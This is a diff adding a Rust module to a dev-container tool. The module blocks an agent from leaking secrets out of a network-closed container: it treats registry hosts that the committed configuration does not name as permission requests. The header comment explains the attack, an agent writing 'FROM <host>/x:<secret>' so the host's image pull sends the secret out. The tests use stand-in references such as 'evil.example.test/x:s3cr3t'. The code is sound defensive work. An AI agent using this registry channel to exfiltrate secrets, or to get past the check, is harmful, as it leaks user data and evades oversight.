@@ -1,0 +1,366 @@
+//! Registry hosts as a channel out of a closed network (attack K12, spec-note 0400).
+//!
+//! Under `--network none` (and `allowlist`) the container reaches nothing, but the engine pulls
+//! `FROM`/`image` references and devcell fetches Feature references on the host's network: an
+//! agent that writes `FROM <host>/x:<secret>` into the workspace has the next `up` or handoff
+//! send the secret to a registry it names. Under `hardened` with a closed network, a registry
+//! host that a reference the configuration names would be fetched from is the request
+//! [`Permission::Registry`] (`--allow registry:<host>`) unless the **committed** configuration
+//! names that host too: the version of the same file git has in `HEAD` (read with devcell's
+//! hardened host git as data, [`committed_text`]), which the agent's working-tree edits do not
+//! change. A file git does not track (or a workspace that is no repository) has no committed
+//! version: every host it names is a request. A reference already on the engine is not fetched
+//! (the caller leaves it out), so it asks nothing. Docker Hub's short names (`busybox`,
+//! `library/x`, `index.docker.io/x`) all name `docker.io` ([`image_host`]). Pure but for
+//! [`committed_text`].
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::Path;
+
+use serde_json::Value;
+
+use super::build_stages;
+use super::policy::{Grants, Permission, PermissionRequest, Source, judge};
+use super::profile::SecurityProfile;
+use crate::features::reference::FeatureRef;
+use crate::formats::image_reference::{DOCKER_HUB, ImageReference};
+
+/// The registry host an image reference is pulled from, lowercased with its port:
+/// `docker.io` for a name without one (`busybox`, `library/x`, `user/x`, `index.docker.io/x`),
+/// as the engine maps it to its default registry (whatever mirror it is configured with). A
+/// reference that does not parse is judged by its first component when that reads as a host
+/// (a `.` or `:` in it, or `localhost`), else as Docker Hub's, as the engine would try it; one
+/// still holding a `$` (a value only the builder knows) is its first component as written.
+pub fn image_host(reference: &str) -> String {
+    if let Ok(parsed) = ImageReference::parse(reference) {
+        return match parsed.registry() {
+            "index.docker.io" | "registry-1.docker.io" => DOCKER_HUB.to_string(),
+            host => host.to_ascii_lowercase(),
+        };
+    }
+    let first = reference.split('/').next().unwrap_or(reference);
+    let is_host = reference.contains('/')
+        && (first.contains(['.', ':']) || first.eq_ignore_ascii_case("localhost"));
+    if reference.contains('$') || is_host {
+        first.to_ascii_lowercase()
+    } else {
+        DOCKER_HUB.to_string()
+    }
+}
+
+/// The host a Feature reference (a key of `features`) is fetched from: an OCI reference's
+/// registry, a tarball URL's host; `None` for a local Feature folder (or a key that does not
+/// parse, which the Features module refuses before fetching anything).
+pub fn feature_host(key: &str) -> Option<String> {
+    match FeatureRef::parse(key).ok()? {
+        FeatureRef::Oci { registry, .. } => Some(registry.to_ascii_lowercase()),
+        FeatureRef::Tarball { url, .. } => {
+            let rest = url.split_once("://").map_or(url.as_str(), |(_, r)| r);
+            let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
+            let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+            Some(host.to_ascii_lowercase())
+        }
+        FeatureRef::Local { .. } => None,
+    }
+}
+
+/// A reference the configuration names that would be fetched from a registry, with its host
+/// ([`image_host`], [`feature_host`]) and who names it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Named {
+    /// The registry host.
+    pub host: String,
+    /// The reference as named (`FROM`'s image, `image`, a Feature key).
+    pub reference: String,
+    /// Who names it.
+    pub source: Source,
+}
+
+/// What devcontainer.json (`value`, the working tree's or the committed one) names to fetch:
+/// its `image` and its Features' keys, each with its host; a local Feature names none.
+pub fn configuration_names(value: &Value) -> Vec<Named> {
+    let mut named = Vec::new();
+    if let Some(image) = value.get("image").and_then(Value::as_str) {
+        named.push(Named {
+            host: image_host(image),
+            reference: image.to_string(),
+            source: Source::DevcontainerJson,
+        });
+    }
+    for key in value
+        .get("features")
+        .and_then(Value::as_object)
+        .into_iter()
+        .flat_map(|f| f.keys())
+    {
+        if let Some(host) = feature_host(key) {
+            named.push(Named {
+                host,
+                reference: key.clone(),
+                source: Source::DevcontainerJson,
+            });
+        }
+    }
+    named
+}
+
+/// The string values of devcontainer.json's `build.args` (as the build passes them; a
+/// non-string value is left out).
+pub fn build_args(value: &Value) -> BTreeMap<String, String> {
+    value
+        .pointer("/build/args")
+        .and_then(Value::as_object)
+        .into_iter()
+        .flatten()
+        .filter_map(|(k, v)| Some((k.clone(), v.as_str()?.to_string())))
+        .collect()
+}
+
+/// Every registry host a Dockerfile's text names (any stage's base, any `--from` image), with
+/// `args`: the committed side of the judgement, where being named is enough.
+pub fn dockerfile_hosts(text: &str, args: &BTreeMap<String, String>) -> BTreeSet<String> {
+    build_stages::named_images(text, args)
+        .iter()
+        .map(|r| image_host(r))
+        .collect()
+}
+
+/// The requests of `named` under `profile` with `grants`, when the container's network is
+/// `closed` (`none`, `allowlist`, or `devcell build`): one [`Permission::Registry`] per host
+/// that `committed` (the hosts the committed configuration names) does not hold, the first
+/// reference naming it as the source. None under `reference` or an open network: a
+/// container that reaches the network has no need of this channel.
+pub fn judge_registries(
+    profile: &SecurityProfile,
+    grants: &Grants,
+    closed: bool,
+    named: &[Named],
+    committed: &BTreeSet<String>,
+) -> Vec<PermissionRequest> {
+    if !closed || !matches!(profile, SecurityProfile::Hardened(_)) {
+        return Vec::new();
+    }
+    let mut asked: Vec<(Permission, Source)> = Vec::new();
+    for n in named.iter().filter(|n| !committed.contains(&n.host)) {
+        let permission = Permission::Registry(n.host.clone());
+        if !asked.iter().any(|(p, _)| *p == permission) {
+            asked.push((permission, n.source.clone()));
+        }
+    }
+    judge(profile, asked, grants)
+}
+
+/// The most of a committed file devcell reads (bytes): a Dockerfile's bound.
+const COMMITTED_MAX: u64 = super::dockerfile::DOCKERFILE_MAX;
+
+/// The content of `path`'s version in `HEAD` of the repository it is in, read with devcell's
+/// hardened host git ([`crate::config::hostgit::command`]: nothing the repository configures
+/// runs) as data (`cat-file`, no filter or text conversion), at most [`COMMITTED_MAX`] bytes.
+/// `None` when there is none: not a repository, no `HEAD`, a file git does not track there,
+/// one too large, or git failing or not answering within its quick deadline. `path` is what
+/// the working tree's file resolves to (a link's target), so the committed file is the one
+/// read.
+pub fn committed_text(path: &Path) -> Option<String> {
+    let folder = path.parent()?;
+    let name = path.file_name()?.to_str()?;
+    let object = format!("HEAD:./{name}");
+    let run = |args: &[&str]| -> Option<Vec<u8>> {
+        let mut git = crate::config::hostgit::command(folder, &[]);
+        git.args(args);
+        let out = crate::config::hostgit::output_within(
+            &mut git,
+            crate::config::hostgit::quick_deadline(),
+        )
+        .ok()?;
+        out.status.success().then_some(out.stdout)
+    };
+    let kind = run(&["cat-file", "-t", &object])?;
+    if String::from_utf8_lossy(&kind).trim() != "blob" {
+        return None;
+    }
+    let size = run(&["cat-file", "-s", &object])?;
+    let size: u64 = String::from_utf8_lossy(&size).trim().parse().ok()?;
+    if size > COMMITTED_MAX {
+        return None;
+    }
+    let bytes = run(&["cat-file", "blob", &object])?;
+    Some(String::from_utf8_lossy(&bytes).into_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    /// Docker Hub's short names all name `docker.io`; a host with a port is kept with it; a
+    /// reference that does not parse is judged by a host-like first component, else as Docker
+    /// Hub's; a `$` keeps the component as written.
+    #[test]
+    fn every_spelling_of_a_registry_names_its_host() {
+        for short in [
+            "busybox",
+            "library/busybox:1",
+            "user/x",
+            "docker.io/library/alpine:3",
+            "index.docker.io/x/y",
+            "registry-1.docker.io/x/y",
+        ] {
+            assert_eq!(image_host(short), "docker.io", "{short}");
+        }
+        assert_eq!(image_host("127.0.0.1:5000/a/b:1"), "127.0.0.1:5000");
+        assert_eq!(
+            image_host("Exfil.Example.test/x:s3cr3t"),
+            "exfil.example.test"
+        );
+        assert_eq!(image_host("localhost/x"), "localhost");
+        // uppercase repository: no reference, but the host it names
+        assert_eq!(
+            image_host("evil.example.test:81/UPPER:x"),
+            "evil.example.test:81"
+        );
+        assert_eq!(image_host("${REG}/x:1"), "${reg}");
+        assert_eq!(
+            feature_host("ghcr.io/devcontainers/features/node:1").as_deref(),
+            Some("ghcr.io")
+        );
+        assert_eq!(
+            feature_host("https://u@Tar.example.test/devcontainer-feature-x.tgz").as_deref(),
+            Some("tar.example.test")
+        );
+        assert_eq!(feature_host("./local"), None);
+    }
+
+    fn hardened() -> SecurityProfile {
+        SecurityProfile::default()
+    }
+
+    /// Attack K12: under a closed network a host the committed configuration does not name
+    /// is a `registry:<host>` request, once per host; a committed host asks nothing (the
+    /// common case needs no flag); the grant grants it; an open network or the `reference`
+    /// profile judges nothing.
+    #[test]
+    fn a_registry_the_committed_configuration_does_not_name_is_a_request() {
+        let working = json!({
+            "image": "127.0.0.1:18997/x:s3cr3t",
+            "features": {
+                "127.0.0.1:18997/f/g:1": {},
+                "ghcr.io/devcontainers/features/node:1": {},
+                "./local": {}
+            }
+        });
+        let committed_value = json!({
+            "image": "busybox",
+            "features": {"ghcr.io/devcontainers/features/node:1": {}}
+        });
+        let committed: BTreeSet<String> = configuration_names(&committed_value)
+            .into_iter()
+            .map(|n| n.host)
+            .collect();
+        assert_eq!(
+            committed,
+            BTreeSet::from(["docker.io".to_string(), "ghcr.io".to_string()])
+        );
+        let named = configuration_names(&working);
+        let asked = judge_registries(&hardened(), &Grants::default(), true, &named, &committed);
+        let shown: Vec<String> = asked.iter().map(ToString::to_string).collect();
+        assert_eq!(shown.len(), 1, "{shown:?}");
+        assert_eq!(
+            asked[0].permission.grant_flag().as_deref(),
+            Some("--allow registry:127.0.0.1:18997")
+        );
+        assert_eq!(asked[0].status, crate::security::RequestStatus::Refused);
+        // the same configuration committed: nothing asked
+        let all: BTreeSet<String> = named.iter().map(|n| n.host.clone()).collect();
+        assert!(judge_registries(&hardened(), &Grants::default(), true, &named, &all).is_empty());
+        // granted
+        let grants = Grants::parse(&["registry:127.0.0.1:18997"]).unwrap();
+        let asked = judge_registries(&hardened(), &grants, true, &named, &committed);
+        assert_eq!(asked[0].status, crate::security::RequestStatus::Granted);
+        // an open network, or the reference profile: not judged
+        assert!(
+            judge_registries(&hardened(), &Grants::default(), false, &named, &committed).is_empty()
+        );
+        assert!(
+            judge_registries(
+                &SecurityProfile::Reference,
+                &Grants::default(),
+                true,
+                &named,
+                &committed
+            )
+            .is_empty()
+        );
+        // a workspace with no committed version (no repository, an untracked file): every
+        // host named is asked, Docker Hub's too
+        let short = configuration_names(&json!({"image": "busybox"}));
+        let asked = judge_registries(
+            &hardened(),
+            &Grants::default(),
+            true,
+            &short,
+            &BTreeSet::new(),
+        );
+        assert_eq!(
+            asked[0].permission.grant_flag().as_deref(),
+            Some("--allow registry:docker.io")
+        );
+    }
+
+    /// The committed side of a Dockerfile counts every host it names in any stage, expanded
+    /// with the committed build arguments: an argument the agent changes in the working tree
+    /// does not change what the committed file names.
+    #[test]
+    fn a_committed_dockerfile_names_the_hosts_of_every_stage_with_its_own_arguments() {
+        let text = "ARG REG=mcr.example.test\nFROM ${REG}/base:1 AS a\nFROM busybox\n\
+                    COPY --from=copied.example.test/c:1 /x /x\n";
+        assert_eq!(
+            dockerfile_hosts(text, &BTreeMap::new()),
+            BTreeSet::from([
+                "copied.example.test".to_string(),
+                "docker.io".to_string(),
+                "mcr.example.test".to_string()
+            ])
+        );
+        let committed = json!({"build": {"args": {"REG": "mine.example.test", "N": 1}}});
+        assert!(dockerfile_hosts(text, &build_args(&committed)).contains("mine.example.test"));
+    }
+
+    /// A file's committed version is read from `HEAD` as data; an untracked file, a changed
+    /// working tree and a folder that is no repository read as what `HEAD` has or nothing.
+    #[test]
+    fn the_committed_version_is_heads_not_the_working_trees() {
+        let tmp = tempfile::tempdir().unwrap();
+        let dir = tmp.path();
+        let git = |args: &[&str]| {
+            let out = std::process::Command::new("git")
+                .arg("-C")
+                .arg(dir)
+                .args([
+                    "-c",
+                    "user.name=t",
+                    "-c",
+                    "user.email=t@t",
+                    "-c",
+                    "commit.gpgsign=false",
+                ])
+                .args(args)
+                .env("GIT_CONFIG_GLOBAL", "/dev/null")
+                .env("GIT_CONFIG_NOSYSTEM", "1")
+                .output()
+                .unwrap();
+            assert!(out.status.success(), "{out:?}");
+        };
+        let file = dir.join("Dockerfile");
+        std::fs::write(&file, "FROM busybox\n").unwrap();
+        assert_eq!(committed_text(&file), None, "not a repository");
+        git(&["init", "-q"]);
+        assert_eq!(committed_text(&file), None, "no HEAD");
+        git(&["add", "Dockerfile"]);
+        git(&["commit", "-q", "-m", "c"]);
+        std::fs::write(&file, "FROM evil.example.test/x:s3cr3t\n").unwrap();
+        assert_eq!(committed_text(&file).as_deref(), Some("FROM busybox\n"));
+        let untracked = dir.join("Other");
+        std::fs::write(&untracked, "FROM busybox\n").unwrap();
+        assert_eq!(committed_text(&untracked), None, "untracked");
+    }
+}
